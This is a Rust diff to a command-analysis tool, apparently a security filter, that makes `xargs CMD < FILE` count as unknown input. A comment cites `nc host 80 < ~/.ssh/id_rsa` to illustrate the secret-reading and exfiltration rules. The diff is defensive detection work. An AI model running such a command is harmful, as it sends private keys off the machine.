@@ -94,6 +94,8 @@ pub struct Walker<'a> {
     redirect_targets: Vec<String>,
     /// Files the command being walked reads through `< FILE`.
     input_sources: Vec<String>,
+    /// The simple command being walked reads standard input from a file (`CMD < FILE`).
+    stdin_file: bool,
 }
 
 fn cut(s: &str) -> String {
@@ -129,6 +131,7 @@ impl<'a> Walker<'a> {
             downloaded: Vec::new(),
             redirect_targets: Vec::new(),
             input_sources: Vec::new(),
+            stdin_file: false,
         }
     }
 
@@ -576,6 +579,8 @@ impl<'a> Walker<'a> {
         if argv.is_empty() {
             return Stage::default();
         }
+        // `xargs CMD < FILE` reads its words from FILE, unknown like `-a FILE`
+        let stdin_file = !self.input_sources.is_empty();
         // `CMD < FILE` reads FILE like `cat FILE | CMD`: the secret-reading and exfiltration
         // rules judge it in that form (`nc host 80 < ~/.ssh/id_rsa`)
         if !self.input_sources.is_empty() {
@@ -610,7 +615,10 @@ impl<'a> Walker<'a> {
             );
             argv[0] = folded;
         }
-        self.run_argv(argv, depth, feed.as_deref())
+        let before = std::mem::replace(&mut self.stdin_file, stdin_file);
+        let stage = self.run_argv(argv, depth, feed.as_deref());
+        self.stdin_file = before;
+        stage
     }
 
     #[allow(clippy::too_many_arguments)]
@@ -926,10 +934,10 @@ impl<'a> Walker<'a> {
             _ => None,
         };
         let xargs = match xargs {
-            // `xargs -a FILE CMD`: the words come from a file airlock does not read, so the
-            // command is judged like `… | xargs CMD` with unknown input; standard input is
-            // not xargs' input then
-            Some((cmd, mode)) if mode.arg_file => {
+            // `xargs -a FILE CMD` / `xargs CMD < FILE`: the words come from a file airlock
+            // does not read, so the command is judged like `… | xargs CMD` with unknown input
+            // (and no pipe feeds this xargs)
+            Some((cmd, mode)) if mode.arg_file || (self.stdin_file && feed.is_none()) => {
                 for argv in xargs_commands(&cmd, mode.placeholder.as_deref(), XARGS_INPUT) {
                     self.run_argv(argv, depth + 1, None);
                 }
